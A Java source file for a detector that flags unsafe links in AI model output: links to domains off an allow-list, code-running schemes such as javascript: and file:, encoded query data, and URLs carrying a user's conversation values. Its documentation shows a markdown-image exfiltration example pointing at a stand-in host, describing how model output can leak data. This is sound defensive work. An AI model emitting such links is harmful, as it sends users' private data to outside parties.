package dev.palisade.detectors.content;

import dev.palisade.detect.DetectionContext;
import dev.palisade.detect.Detector;
import dev.palisade.detect.EntityType;
import dev.palisade.detect.Finding;
import dev.palisade.detect.Span;
import dev.palisade.detectors.text.CallCache;
import java.net.IDN;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collection;
import java.util.Comparator;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Objects;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * A detector of unsafe links in model output: URLs, markdown links and images, and HTML
 * {@code <a>}/{@code <img>} tags whose domain is not on the allow-list, whose scheme runs code
 * ({@code javascript:}), or whose URL carries conversation data out (the classic markdown-image
 * exfiltration: {@code ![](https://evil.test/p?q=<the user's data>)}, which a chat UI fetches
 * without a click).
 *
 * <p>Exfiltration is recognized two ways: by the sensitive values of the conversation given to
 * {@link #forConversation} (found in the URL as they are, percent-decoded, lower-cased, or base64
 * or hex encoded), and, without any values, by long encoded-looking query parameters or path
 * segments on images (and, twice as long, on link query parameters).
 *
 * <p>Reports {@link EntityType#UNSAFE_LINK} with detector id {@code "links"}; {@link #scan} also
 * gives the {@link Reason}. The span covers the whole markdown or HTML construct, or the bare URL.
 *
 * <h2>Thread safety</h2>
 * Immutable; one instance serves all threads.
 */
public final class LinkDetector implements Detector {

  /** This detector's id. */
  public static final String ID = "links";

  private static final Set<EntityType> TYPES = Set.of(EntityType.UNSAFE_LINK);
  private static final int MAX_URL = 2048;

  /** Why a link is unsafe, most severe first. */
  public enum Reason {
    /** The URL contains a sensitive value of the conversation. */
    DATA_EXFILTRATION,
    /** A scheme that runs code or reads local files ({@code javascript:}, {@code file:}, ...). */
    UNSAFE_SCHEME,
    /** A long encoded-looking parameter that may carry data out. */
    ENCODED_DATA,
    /** The host is not on the allow-list. */
    DOMAIN_NOT_ALLOWED
  }

  /** An unsafe link found by {@link #scan}. */
  public record Match(Reason reason, Span span, boolean image, double score) {
    public Match {
      Objects.requireNonNull(reason, "reason");
      Objects.requireNonNull(span, "span");
    }
  }

  // ![alt](url "title") and [text](url); the URL may be wrapped in <>.
  // Starts with a literal so the scan skips ahead fast; a preceding '!' makes it an image.
  private static final Pattern MARKDOWN = Pattern.compile(
      "\\[[^\\[\\]\\n]{0,500}\\]\\(\\s{0,5}<?([^\\s()<>]{1," + MAX_URL + "})>?"
          + "(?:\\s{1,5}(?:\"[^\"\\n]{0,200}\"|'[^'\\n]{0,200}'))?\\s{0,5}\\)");
  // [id]: url   (reference definitions; images that use them are treated as images)
  private static final Pattern REFERENCE = Pattern.compile(
      "(?m)^ {0,3}\\[[^\\]\\n]{1,200}\\]:[ \\t]{0,5}<?([^\\s<>]{1," + MAX_URL + "})>?");
  private static final Pattern HTML = Pattern.compile(
      "(?i)<(img|a|iframe|script|link|source|video|audio)\\b[^>]{0,500}?\\b(src|href)\\s{0,3}=\\s{0,3}"
          + "[\"']?([^\"'\\s>]{1," + MAX_URL + "})[^>]{0,500}>?");
  private static final Set<String> BARE_SCHEMES = Set.of("http", "https", "ftp", "ws", "wss");
  private static final Pattern SCHEME = Pattern.compile("(?i)^([a-z][a-z0-9+.-]{0,20}):");
  private static final Pattern ENCODED = Pattern.compile("[A-Za-z0-9+/=_%.-]+");
  private static final Set<String> UNSAFE_SCHEMES =
      Set.of("javascript", "vbscript", "file", "data", "blob");

  private final Set<String> allowedDomains;
  private final int minEncodedLength;
  private final List<Needle> needles;

  private LinkDetector(Set<String> allowedDomains, int minEncodedLength, List<Needle> needles) {
    this.allowedDomains = allowedDomains;
    this.minEncodedLength = minEncodedLength;
    this.needles = needles;
  }

  public static Builder builder() {
    return new Builder();
  }

  /** Builds a {@link LinkDetector}. Not thread-safe. */
  public static final class Builder {
    private final Set<String> allowed = new LinkedHashSet<>();
    private int minEncodedLength = 32;

    private Builder() {}

    /**
     * Allows links to these domains and their subdomains ({@code example.com} allows
     * {@code docs.example.com}). With no allowed domain, any domain is allowed.
     *
     * @throws IllegalArgumentException if a domain is blank or not a host name
     */
    public Builder allowDomains(Collection<String> domains) {
      Objects.requireNonNull(domains, "domains");
      for (String d : domains) {
        String host = normalizeHost(Objects.requireNonNull(d, "domain").strip());
        if (host.isEmpty() || host.contains("/") || host.contains(" ")) {
          throw new IllegalArgumentException("allowed domain \"" + d + "\" is not a host name");
        }
        allowed.add(host);
      }
      return this;
    }

    /**
     * The length (after percent-decoding) from which an image's query parameter or path segment
     * that looks encoded counts as possible exfiltration; links use twice this. Default 32.
     */
    public Builder minEncodedLength(int length) {
      if (length < 8) {
        throw new IllegalArgumentException("minEncodedLength must be at least 8, was " + length);
      }
      this.minEncodedLength = length;
      return this;
    }

    public LinkDetector build() {
      return new LinkDetector(Set.copyOf(allowed), minEncodedLength, List.of());
    }
  }

  /**
   * A detector like this one that also flags URLs carrying any of {@code sensitiveValues} (the
   * user's personal data, secrets, text of the conversation). Values shorter than 4 characters
   * are ignored. Build one per call; it holds the values, so do not log or keep it.
   */
  public LinkDetector forConversation(Collection<String> sensitiveValues) {
    Objects.requireNonNull(sensitiveValues, "sensitiveValues");
    List<Needle> list = new ArrayList<>();
    for (String v : sensitiveValues) {
      if (v != null && v.strip().length() >= 4) {
        list.add(Needle.of(v.strip()));
      }
    }
    return new LinkDetector(allowedDomains, minEncodedLength, List.copyOf(list));
  }

  // The forms in which a value may appear in a URL, all lower case.
  private record Needle(List<String> forms) {
    static Needle of(String value) {
      byte[] bytes = value.getBytes(StandardCharsets.UTF_8);
      Set<String> forms = new LinkedHashSet<>();
      forms.add(value.toLowerCase(Locale.ROOT));
      forms.add(value.toLowerCase(Locale.ROOT).replace(' ', '+'));
      String b64 = Base64.getEncoder().withoutPadding().encodeToString(bytes);
      forms.add(b64.toLowerCase(Locale.ROOT));
      forms.add(b64.replace('+', '-').replace('/', '_').toLowerCase(Locale.ROOT));
      StringBuilder hex = new StringBuilder();
      for (byte b : bytes) {
        hex.append(Character.forDigit((b >> 4) & 0xF, 16)).append(Character.forDigit(b & 0xF, 16));
      }
      forms.add(hex.toString());
      return new Needle(List.copyOf(forms));
    }

    @Override
    public String toString() {
      return "Needle[redacted]";
    }
  }

  /**
   * Scans {@code text} treating data-like pieces of the call's request texts as sensitive values:
   * tokens of 5 or more characters with a digit or {@code @} (numbers, e-mail addresses, codes),
   * pairs of capitalized words (names), and whole texts of up to 80 characters.
   */
  @Override
  public List<Finding> detect(String text, DetectionContext context) {
    Objects.requireNonNull(context, "context");
    // Once per call, not once per streamed chunk: the chunks share the call's request texts.
    LinkDetector forCall = perCall.get(context, context.requestTexts(), texts -> {
      List<String> values = sensitivePieces(texts);
      return values.isEmpty() ? this : forConversation(values);
    });
    return forCall.detect(text);
  }

  private final CallCache<List<String>, LinkDetector> perCall = new CallCache<>();

  private static final Pattern TOKEN = Pattern.compile("[\\p{L}\\p{N}@._+-]{5,}");
  private static final Pattern NAME_PAIR = Pattern.compile("\\p{Lu}\\p{Ll}{1,30} \\p{Lu}\\p{Ll}{1,30}");

  static List<String> sensitivePieces(List<String> requestTexts) {
    Set<String> pieces = new LinkedHashSet<>();
    for (String t : requestTexts) {
      if (t == null || t.isBlank()) {
        continue;
      }
      if (t.strip().length() <= 80 && t.strip().length() >= 4) {
        pieces.add(t.strip());
      }
      Matcher m = TOKEN.matcher(t);
      while (m.find()) {
        String tok = m.group().replaceAll("^[._+-]+|[._+-]+$", "");
        if (tok.length() >= 5 && tok.chars().anyMatch(c -> Character.isDigit(c) || c == '@')) {
          pieces.add(tok);
        }
      }
      m = NAME_PAIR.matcher(t);
      while (m.find()) {
        pieces.add(m.group());
      }
      if (pieces.size() > 500) {
        break; // bound the per-call cost on huge requests
      }
    }
    return List.copyOf(pieces);
  }

  @Override
  public String id() {
    return ID;
  }

  @Override
  public Set<EntityType> types() {
    return TYPES;
  }

  /**
   * The longest span this detector reports (a markdown link with a 500-character text, a
   * 2,048-character URL and a title): a streaming hold-back window of this size keeps every link
   * whole.
   */
  public int maxMatchLength() {
    return 1 + 1 + 500 + 2 + 5 + 1 + MAX_URL + 1 + 5 + 202 + 5 + 1;
  }

  @Override
  public List<Finding> detect(String text) {
    List<Finding> out = new ArrayList<>();
    for (Match m : scan(text)) {
      out.add(new Finding(EntityType.UNSAFE_LINK, m.span(), m.score(), ID));
    }
    return out;
  }

  /** Scans {@code text} and returns the unsafe links, by start. */
  public List<Match> scan(String text) {
    Objects.requireNonNull(text, "text");
    if (text.isEmpty() || !mayHaveLink(text)) {
      return List.of();
    }
    List<Match> out = new ArrayList<>();
    List<Span> covered = new ArrayList<>();
    Matcher m = MARKDOWN.matcher(text);
    if (text.contains("](")) {
      // The pattern starts with '[': try it there only (find() would try every position).
      for (int at = text.indexOf('['); at >= 0; ) {
        m.region(at, text.length());
        if (!m.lookingAt()) {
          at = text.indexOf('[', at + 1);
          continue;
        }
        boolean image = m.start() > 0 && text.charAt(m.start() - 1) == '!';
        Span span = new Span(image ? m.start() - 1 : m.start(), m.end());
        covered.add(span);
        check(m.group(1), image, span, out);
        at = text.indexOf('[', m.end());
      }
    }
    m = REFERENCE.matcher(text);
    while (text.contains("]:") && m.find()) {
      Span span = new Span(m.start(), m.end());
      if (covered.stream().noneMatch(c -> c.overlaps(span))) {
        covered.add(span);
        check(m.group(1), text.contains("!["), span, out);
      }
    }
    m = HTML.matcher(text);
    for (int at = text.indexOf('<'); at >= 0; ) { // the pattern starts with '<'
      m.region(at, text.length());
      if (!m.lookingAt()) {
        at = text.indexOf('<', at + 1);
        continue;
      }
      Span span = new Span(m.start(), m.end());
      if (covered.stream().noneMatch(c -> c.overlaps(span))) {
        covered.add(span);
        check(m.group(3), !m.group(1).equalsIgnoreCase("a"), span, out);
      }
      at = text.indexOf('<', m.end());
    }
    for (Span bare : bareUrls(text)) {
      if (covered.stream().noneMatch(c -> c.overlaps(bare))) {
        covered.add(bare);
        check(bare.of(text), false, bare, out);
      }
    }
    out.sort(Comparator.comparing(Match::span));
    return out;
  }

  // Bare http(s)/ftp/ws(s) URLs and www. addresses, found from their "://" or "www.".
  private static List<Span> bareUrls(String text) {
    List<Span> urls = new ArrayList<>();
    for (int at = text.indexOf("://"); at >= 0; at = text.indexOf("://", at + 3)) {
      int start = at;
      while (start > 0 && at - start < 5 && isAsciiLetter(text.charAt(start - 1))) {
        start--;
      }
      if (start > 0 && isUrlBoundary(text.charAt(start - 1))
          || !BARE_SCHEMES.contains(text.substring(start, at).toLowerCase(Locale.ROOT))) {
        continue;
      }
      urls.add(new Span(start, urlEnd(text, start, at + 3)));
    }
    for (int at = indexOfWww(text, 0); at >= 0; at = indexOfWww(text, at + 4)) {
      if (at > 0 && (isUrlBoundary(text.charAt(at - 1)) || text.charAt(at - 1) == '/')) {
        continue; // part of a word or of a URL with a scheme
      }
      urls.add(new Span(at, urlEnd(text, at, at + 4)));
    }
    return urls;
  }

  private static boolean isAsciiLetter(char c) {
    return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z';
  }

  private static boolean isUrlBoundary(char c) {
    return isAsciiLetter(c) || c >= '0' && c <= '9' || c == '.' || c == '+' || c == '-';
  }

  private static int urlEnd(String text, int start, int from) {
    int end = from;
    int limit = Math.min(text.length(), start + MAX_URL);
    while (end < limit && " \t\n\r<>\"'`".indexOf(text.charAt(end)) < 0
        && !Character.isWhitespace(text.charAt(end))) {
      end++;
    }
    return trimTrailingPunctuation(text, start, end);
  }

  // "www." in any case (no other character folds to an ASCII w).
  private static int indexOfWww(String text, int from) {
    for (int i = from, last = text.length() - 4; i <= last; i++) {
      if ((text.charAt(i) | 0x20) == 'w' && (text.charAt(i + 1) | 0x20) == 'w'
          && (text.charAt(i + 2) | 0x20) == 'w' && text.charAt(i + 3) == '.') {
        return i;
      }
    }
    return -1;
  }

  private static boolean mayHaveLink(String text) {
    return text.indexOf(':') >= 0 || indexOfWww(text, 0) >= 0 || text.indexOf("](") >= 0;
  }

  private static int trimTrailingPunctuation(String text, int start, int end) {
    while (end > start + 1 && ".,;:!?)]}*_".indexOf(text.charAt(end - 1)) >= 0) {
      end--;
    }
    return end;
  }

  private void check(String url, boolean image, Span span, List<Match> out) {
    Reason reason = judge(url, image);
    if (reason != null) {
      double score = switch (reason) {
        case DATA_EXFILTRATION -> 1.0;
        case UNSAFE_SCHEME -> 0.9;
        case ENCODED_DATA -> image ? 0.8 : 0.6;
        case DOMAIN_NOT_ALLOWED -> image ? 0.9 : 0.7;
      };
      out.add(new Match(reason, span, image, score));
    }
  }

  private Reason judge(String url, boolean image) {
    String decoded = percentDecode(url);
    String lower = decoded.toLowerCase(Locale.ROOT);
    String rawLower = url.toLowerCase(Locale.ROOT);
    for (Needle n : needles) {
      for (String form : n.forms()) {
        if (lower.contains(form) || rawLower.contains(form)) {
          return Reason.DATA_EXFILTRATION;
        }
      }
    }
    Matcher scheme = SCHEME.matcher(url);
    String host = null;
    if (scheme.find()) {
      String s = scheme.group(1).toLowerCase(Locale.ROOT);
      if (UNSAFE_SCHEMES.contains(s) && !(image && s.equals("data"))) {
        return Reason.UNSAFE_SCHEME;
      }
      if (url.startsWith("//", scheme.end())) {
        host = hostOf(url.substring(scheme.end() + 2));
      }
    } else if (url.startsWith("//")) {
      host = hostOf(url.substring(2));
    } else if (url.regionMatches(true, 0, "www.", 0, 4)) {
      host = hostOf(url);
    }
    boolean allowedHost = host != null && isAllowed(host);
    if (!allowedHost && carriesEncodedData(url, image)) {
      return Reason.ENCODED_DATA;
    }
    if (host != null && !allowedDomains.isEmpty() && !allowedHost) {
      return Reason.DOMAIN_NOT_ALLOWED;
    }
    return null;
  }

  private boolean isAllowed(String host) {
    if (allowedDomains.isEmpty()) {
      return false; // nothing is explicitly trusted; the domain check itself is off
    }
    for (String d : allowedDomains) {
      if (host.equals(d) || host.endsWith("." + d) && !d.isEmpty()) {
        return true;
      }
    }
    return false;
  }

  // Long, random-looking query values or path segments: base64, hex or percent-encoded data.
  private boolean carriesEncodedData(String url, boolean image) {
    int q = url.indexOf('?');
    String path = q < 0 ? url : url.substring(0, q);
    String query = q < 0 ? "" : url.substring(q + 1);
    int hash = query.indexOf('#');
    if (hash >= 0) {
      query = query.substring(0, hash);
    }
    int min = image ? minEncodedLength : minEncodedLength * 2;
    for (String param : query.split("[&;]")) {
      int eq = param.indexOf('=');
      if (looksEncoded(percentDecode(eq < 0 ? param : param.substring(eq + 1)), min)) {
        return true;
      }
    }
    if (image) {
      String[] segments = path.split("/");
      for (int i = 3; i < segments.length; i++) { // skip scheme, empty, host
        if (looksEncoded(percentDecode(segments[i]), min)) {
          return true;
        }
      }
    }
    return false;
  }

  private static boolean looksEncoded(String value, int min) {
    if (value.length() < min) {
      return false;
    }
    if (!ENCODED.matcher(value).matches()) {
      return value.length() >= 2 * min; // long free text (spaces decoded) in a parameter
    }
    return entropy(value) >= 3.5;
  }

  private static double entropy(String s) {
    int[] counts = new int[128];
    int other = 0;
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      if (c < 128) {
        counts[c]++;
      } else {
        other++;
      }
    }
    double h = 0;
    for (int c : counts) {
      if (c > 0) {
        double p = (double) c / s.length();
        h -= p * Math.log(p) / Math.log(2);
      }
    }
    if (other > 0) {
      double p = (double) other / s.length();
      h -= p * Math.log(p) / Math.log(2);
    }
    return h;
  }

  static String hostOf(String authorityAndRest) {
    int end = authorityAndRest.length();
    for (int i = 0; i < authorityAndRest.length(); i++) {
      char c = authorityAndRest.charAt(i);
      if (c == '/' || c == '?' || c == '#' || c == '\\') {
        end = i;
        break;
      }
    }
    String authority = authorityAndRest.substring(0, end);
    int at = authority.lastIndexOf('@');
    if (at >= 0) {
      authority = authority.substring(at + 1);
    }
    if (authority.startsWith("[")) {
      int close = authority.indexOf(']');
      return close > 0 ? authority.substring(0, close + 1).toLowerCase(Locale.ROOT) : authority;
    }
    int colon = authority.indexOf(':');
    if (colon >= 0) {
      authority = authority.substring(0, colon);
    }
    return normalizeHost(authority);
  }

  static String normalizeHost(String host) {
    String h = host.toLowerCase(Locale.ROOT);
    while (h.endsWith(".")) {
      h = h.substring(0, h.length() - 1);
    }
    try {
      h = IDN.toASCII(h, IDN.ALLOW_UNASSIGNED).toLowerCase(Locale.ROOT);
    } catch (IllegalArgumentException e) {
      // not a valid IDN: compare it as it is
    }
    return h;
  }

  static String percentDecode(String s) {
    if (s.indexOf('%') < 0 && s.indexOf('+') < 0) {
      return s;
    }
    java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream(s.length());
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      int hi = i + 2 < s.length() ? Character.digit(s.charAt(i + 1), 16) : -1;
      int lo = i + 2 < s.length() ? Character.digit(s.charAt(i + 2), 16) : -1;
      if (c == '%' && hi >= 0 && lo >= 0) {
        out.write((hi << 4) | lo);
        i += 2;
      } else if (c == '+') {
        out.write(' ');
      } else if (c < 0x80) {
        out.write(c);
      } else {
        int cp = s.codePointAt(i);
        byte[] b = new String(Character.toChars(cp)).getBytes(StandardCharsets.UTF_8);
        out.write(b, 0, b.length);
        i += Character.charCount(cp) - 1;
      }
    }
    return out.toString(StandardCharsets.UTF_8);
  }

  @Override
  public String toString() {
    return "LinkDetector[" + allowedDomains.size() + " allowed domains, " + needles.size()
        + " sensitive values]";
  }
}
